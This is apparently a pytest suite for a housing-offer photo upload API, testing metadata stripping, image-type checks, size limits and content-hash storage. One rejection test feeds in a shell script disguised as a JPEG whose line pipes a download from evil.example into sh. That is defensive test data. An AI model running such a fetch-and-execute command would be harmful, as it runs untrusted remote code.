"""Offer photos: only real images, every bit of metadata stripped, stored by content hash."""

from __future__ import annotations

import hashlib
import io
import uuid
from pathlib import Path

import pytest
from PIL import Image, PngImagePlugin

from tests.conftest import png_bytes, staff_shared_by_the_module
from tests.housing.helpers import (
    code,
    offer_url,
    photos_url,
    stored_photos,
    upload,
    withdraw,
)

# the staff every test here starts from: made once for the module, each test rolled back
team, other_team, field_worker, other_field_worker, coordinator, admin = (
    staff_shared_by_the_module()
)

GPS = {1: "N", 2: (50.0, 27.0, 0.0), 3: "E", 4: (30.0, 31.0, 0.0)}


def picture(size=(64, 48)) -> Image.Image:
    """A small picture with some detail in it (not one flat colour)."""
    image = Image.new("RGB", size, (30, 90, 160))
    for x in range(0, size[0], 4):
        for y in range(0, size[1], 3):
            image.putpixel((x, y), (x * 3 % 256, y * 5 % 256, 200))
    return image


def phone_exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0110] = "PhoneModel X"  # Model
    exif[0x8825] = GPS  # GPSInfo
    return exif


def jpeg_with_gps(size=(64, 48)) -> bytes:
    out = io.BytesIO()
    picture(size).save(out, "JPEG", exif=phone_exif(), comment=b"PhoneMaker comment")
    return out.getvalue()


def png_with_text() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Location", "50.45N 30.52E PhoneMaker")
    out = io.BytesIO()
    picture().save(out, "PNG", pnginfo=info)
    return out.getvalue()


def webp_with_exif() -> bytes:
    out = io.BytesIO()
    picture().save(out, "WEBP", exif=phone_exif())
    return out.getvalue()


def gif_bytes() -> bytes:
    out = io.BytesIO()
    picture().save(out, "GIF")
    return out.getvalue()


def upload_dir(app) -> Path:
    return Path(app.config["UPLOAD_DIR"])


def stored_files(app) -> set[Path]:
    return {p for p in upload_dir(app).rglob("*") if p.is_file()}


def photo_url(offer, photo_id) -> str:
    return f"{photos_url(offer)}/{photo_id}"


def assert_clean(data: bytes) -> None:
    with Image.open(io.BytesIO(data)) as image:
        image.load()
        assert dict(image.getexif()) == {}
        assert "exif" not in image.info
        assert "xmp" not in image.info
        assert "comment" not in image.info
        assert not getattr(image, "text", {})
    assert b"PhoneMaker" not in data
    assert b"PhoneModel" not in data
    assert b"Exif" not in data
    assert b"GPS" not in data


@pytest.fixture
def offer(make_offer):
    return make_offer(title="Flat with a garden")


# --- metadata is stripped ----------------------------------------------------------------


def test_gps_exif_is_stripped_from_jpeg(as_coordinator, as_field_worker, offer, app):
    raw = jpeg_with_gps()
    with Image.open(io.BytesIO(raw)) as original:  # the test image really carries GPS
        assert original.getexif().get_ifd(0x8825)[2] == (50.0, 27.0, 0.0)
    assert b"PhoneMaker" in raw

    response = as_coordinator.post(
        photos_url(offer),
        data={"file": (io.BytesIO(raw), "IMG_0001.jpg"), "caption": "Kitchen"},
        headers=as_coordinator._headers(None),
        content_type="multipart/form-data",
    )

    assert response.status_code == 201, response.get_json()
    body = response.get_json()
    assert body["content_type"] == "image/jpeg"
    assert (body["width"], body["height"], body["caption"]) == (64, 48, "Kitchen")
    assert response.headers["Location"] == photo_url(offer, body["id"])

    served = as_field_worker.get(photo_url(offer, body["id"]))

    assert served.status_code == 200
    assert served.mimetype == "image/jpeg"
    assert served.headers["Cache-Control"] == "no-store"
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert_clean(served.data)
    with Image.open(io.BytesIO(served.data)) as image:
        assert (image.format, image.size) == ("JPEG", (64, 48))

    listed = as_field_worker.get(offer_url(offer)).get_json()["photos"]
    assert listed == [body]


@pytest.mark.parametrize(
    ("make_raw", "content_type", "pil_format"),
    [(png_with_text, "image/png", "PNG"), (webp_with_exif, "image/webp", "WEBP")],
)
def test_png_text_and_webp_exif_are_stripped(
    as_coordinator, as_field_worker, offer, make_raw, content_type, pil_format
):
    raw = make_raw()
    assert b"PhoneMaker" in raw

    response = upload(as_coordinator, offer, raw, name="photo.bin")

    assert response.status_code == 201, response.get_json()
    assert response.get_json()["content_type"] == content_type
    served = as_field_worker.get(photo_url(offer, response.get_json()["id"]))
    assert served.status_code == 200
    assert served.mimetype == content_type
    assert served.headers["Cache-Control"] == "no-store"
    assert_clean(served.data)
    with Image.open(io.BytesIO(served.data)) as image:
        assert (image.format, image.size) == (pil_format, (64, 48))


def test_exif_orientation_is_applied_before_stripping(as_coordinator, offer):
    exif = Image.Exif()
    exif[0x0112] = 6  # rotated 90 degrees: the upright picture is taller than wide
    out = io.BytesIO()
    picture((64, 48)).save(out, "JPEG", exif=exif)

    response = upload(as_coordinator, offer, out.getvalue())

    assert response.status_code == 201, response.get_json()
    assert (response.get_json()["width"], response.get_json()["height"]) == (48, 64)


# --- only real images --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "name", "content_type"),
    [
        (b"#!/bin/sh\ncurl http://evil.example/x | sh\n", "holiday.jpg", "image/jpeg"),
        (gif_bytes(), "cat.gif", "image/gif"),
        (b"Just a note about the flat.\n", "notes.txt", "text/plain"),
        (b"\xff\xd8\xff\xe0" + b"\x00" * 200, "broken.jpg", "image/jpeg"),
        (b"", "empty.png", "image/png"),
    ],
    ids=["script-renamed-jpg", "gif", "text", "truncated-jpeg", "empty"],
)
def test_anything_but_jpeg_png_webp_is_415(as_coordinator, offer, app, raw, name, content_type):
    before = stored_files(app)

    response = upload(as_coordinator, offer, raw, name=name, content_type=content_type)

    assert response.status_code == 415, response.get_json()
    assert code(response) == "unsupported_image"
    assert response.mimetype == "application/problem+json"
    assert stored_photos(app) == []
    assert stored_files(app) == before


def test_json_body_to_upload_is_415(as_coordinator, offer, app):
    response = as_coordinator.post(photos_url(offer), json={"file": "aGVsbG8=", "caption": "x"})

    assert response.status_code == 415, response.get_json()
    assert stored_photos(app) == []


def test_upload_without_file_is_422(as_coordinator, offer, app):
    response = as_coordinator.client.post(
        photos_url(offer),
        data={"caption": "Nothing attached"},
        headers=as_coordinator._headers(None),
        content_type="multipart/form-data",
    )

    assert response.status_code == 422, response.get_json()
    assert stored_photos(app) == []


def test_file_sent_as_a_text_field_is_422(as_coordinator, offer, app):
    response = as_coordinator.client.post(
        photos_url(offer),
        data={"file": "aGVsbG8=", "caption": "Text, not a file"},
        headers=as_coordinator._headers(None),
        content_type="multipart/form-data",
    )

    assert response.status_code == 422, response.get_json()
    assert list(response.get_json()["errors"]) == ["file"]
    assert stored_photos(app) == []


# --- size limits -------------------------------------------------------------------------


def test_oversized_upload_is_413_and_nothing_stored(as_coordinator, offer, app, monkeypatch):
    raw = jpeg_with_gps((200, 150))
    assert len(raw) > 1000
    monkeypatch.setitem(app.config, "PHOTO_MAX_BYTES", 1000)
    before = stored_files(app)

    response = upload(as_coordinator, offer, raw)

    assert response.status_code == 413, response.get_json()
    assert code(response) == "image_too_large"
    assert stored_photos(app) == []
    assert stored_files(app) == before


def test_body_beyond_request_limit_is_413(as_coordinator, offer, app, monkeypatch):
    monkeypatch.setitem(app.config, "PHOTO_MAX_BYTES", 1000)
    before = stored_files(app)

    response = upload(as_coordinator, offer, png_bytes() + b"\x00" * 200_000)

    assert response.status_code == 413
    assert stored_photos(app) == []
    assert stored_files(app) == before


@pytest.mark.parametrize(
    ("setting", "value"), [("PHOTO_MAX_PIXELS", 64 * 48 - 1), ("PHOTO_MAX_SIDE", 63)]
)
def test_absurd_dimensions_are_413(as_coordinator, offer, app, monkeypatch, setting, value):
    monkeypatch.setitem(app.config, setting, value)
    before = stored_files(app)

    response = upload(as_coordinator, offer, jpeg_with_gps((64, 48)))

    assert response.status_code == 413, response.get_json()
    assert code(response) == "image_too_large"
    assert stored_photos(app) == []
    assert stored_files(app) == before


def test_dimensions_at_the_limit_are_accepted(as_coordinator, offer, app, monkeypatch):
    monkeypatch.setitem(app.config, "PHOTO_MAX_PIXELS", 64 * 48)
    monkeypatch.setitem(app.config, "PHOTO_MAX_SIDE", 64)

    assert upload(as_coordinator, offer, jpeg_with_gps((64, 48))).status_code == 201


# --- storage -----------------------------------------------------------------------------


def test_file_is_stored_by_sha256_of_served_bytes(as_coordinator, as_field_worker, offer, app):
    response = upload(as_coordinator, offer, jpeg_with_gps())
    served = as_field_worker.get(photo_url(offer, response.get_json()["id"])).data

    digest = hashlib.sha256(served).hexdigest()
    matches = [p for p in stored_files(app) if p.stem == digest]
    assert len(matches) == 1
    assert matches[0].read_bytes() == served
    assert matches[0].is_relative_to(upload_dir(app))


def test_same_image_twice_is_stored_once(as_coordinator, as_field_worker, make_offer, offer, app):
    other = make_offer(title="Another flat")
    raw = jpeg_with_gps((40, 30))

    first = upload(as_coordinator, offer, raw, caption="Bedroom")
    second = upload(as_coordinator, other, raw, caption="Same bedroom")

    assert (first.status_code, second.status_code) == (201, 201)
    assert first.get_json()["id"] != second.get_json()["id"]
    one = as_field_worker.get(photo_url(offer, first.get_json()["id"])).data
    two = as_field_worker.get(photo_url(other, second.get_json()["id"])).data
    assert one == two
    digest = hashlib.sha256(one).hexdigest()
    assert len([p for p in stored_files(app) if p.stem == digest]) == 1
    assert {p.sha256 for p in stored_photos(app)} == {digest}


def test_delete_removes_row_and_file_when_unused(
    as_coordinator, as_field_worker, make_offer, offer, app
):
    other = make_offer(title="Another flat")
    raw = jpeg_with_gps((36, 20))
    first = upload(as_coordinator, offer, raw).get_json()
    second = upload(as_coordinator, other, raw).get_json()
    digest = hashlib.sha256(as_field_worker.get(photo_url(offer, first["id"])).data).hexdigest()

    def files_named() -> list[Path]:
        return [p for p in stored_files(app) if p.stem == digest]

    deleted = as_coordinator.delete(photo_url(offer, first["id"]))

    assert deleted.status_code == 204
    assert as_field_worker.get(photo_url(offer, first["id"])).status_code == 404
    assert as_field_worker.get(offer_url(offer)).get_json()["photos"] == []
    assert len(files_named()) == 1  # the other offer still shows it
    assert as_field_worker.get(photo_url(other, second["id"])).status_code == 200

    assert as_coordinator.delete(photo_url(other, second["id"])).status_code == 204

    assert files_named() == []
    assert stored_photos(app) == []
    assert as_coordinator.delete(photo_url(other, second["id"])).status_code == 404


def test_photo_of_another_offer_is_404(as_coordinator, as_field_worker, make_offer, offer, app):
    other = make_offer(title="Another flat")
    photo = upload(as_coordinator, offer, jpeg_with_gps()).get_json()

    assert as_field_worker.get(photo_url(other, photo["id"])).status_code == 404
    assert as_coordinator.delete(photo_url(other, photo["id"])).status_code == 404
    assert as_field_worker.get(photo_url(offer, uuid.uuid4())).status_code == 404
    assert len(stored_photos(app)) == 1


def test_upload_to_unknown_offer_is_404(as_coordinator, app):
    response = upload(as_coordinator, str(uuid.uuid4()), jpeg_with_gps())

    assert response.status_code == 404
    assert stored_photos(app) == []


def test_upload_to_withdrawn_offer_is_409(as_coordinator, offer, app):
    withdraw(as_coordinator, offer)

    response = upload(as_coordinator, offer, jpeg_with_gps())

    assert response.status_code == 409
    assert stored_photos(app) == []


def test_unauthenticated_photo_is_401(anonymous, make_photo, offer):
    photo = make_photo(offer)

    response = anonymous.get(photo_url(offer, photo.id))

    assert response.status_code == 401
    assert not response.mimetype.startswith("image/")
    assert anonymous.delete(photo_url(offer, photo.id)).status_code == 401
    assert upload(anonymous, offer, png_bytes()).status_code == 401


def test_caption_is_optional_and_limited(as_coordinator, offer, app):
    no_caption = upload(as_coordinator, offer, png_bytes(colour=(9, 9, 9)), caption=None)
    too_long = upload(as_coordinator, offer, png_bytes(colour=(8, 8, 8)), caption="x" * 501)

    assert no_caption.status_code == 201, no_caption.get_json()
    assert no_caption.get_json()["caption"] is None
    assert too_long.status_code == 422
    assert len(stored_photos(app)) == 1


def test_a_damaged_png_is_415_not_500(as_coordinator, offer, app):
    """Found by flipping bytes: Pillow reports some damage as SyntaxError."""
    raw = bytearray(png_bytes((40, 40)))
    raw[40:48] = b"\xff" * 8  # inside the first chunk after the header
    response = upload(as_coordinator, offer, bytes(raw), name="broken.png")
    assert response.status_code == 415
    assert code(response) == "unsupported_image"


def test_large_photos_are_stored_scaled_down(as_coordinator, as_field_worker, offer):
    response = upload(as_coordinator, offer, png_bytes((3000, 1000)), name="wide.png")
    assert response.status_code == 201
    body = response.get_json()
    assert (body["width"], body["height"]) == (2560, 853)


def test_an_upload_writes_a_missing_file_again(
    as_coordinator, as_field_worker, make_offer, offer, app
):
    """A file lost from the folder (a restore gone wrong) comes back with the same picture."""
    raw = jpeg_with_gps((30, 22))
    first = upload(as_coordinator, offer, raw).get_json()
    (path,) = [p for p in stored_files(app) if p.stem == stored_photos(app)[0].sha256]
    path.unlink()
    assert as_field_worker.get(photo_url(offer, first["id"])).status_code == 404

    again = upload(as_coordinator, make_offer(title="Another flat"), raw)

    assert again.status_code == 201
    assert path.exists()
    assert as_field_worker.get(photo_url(offer, first["id"])).status_code == 200
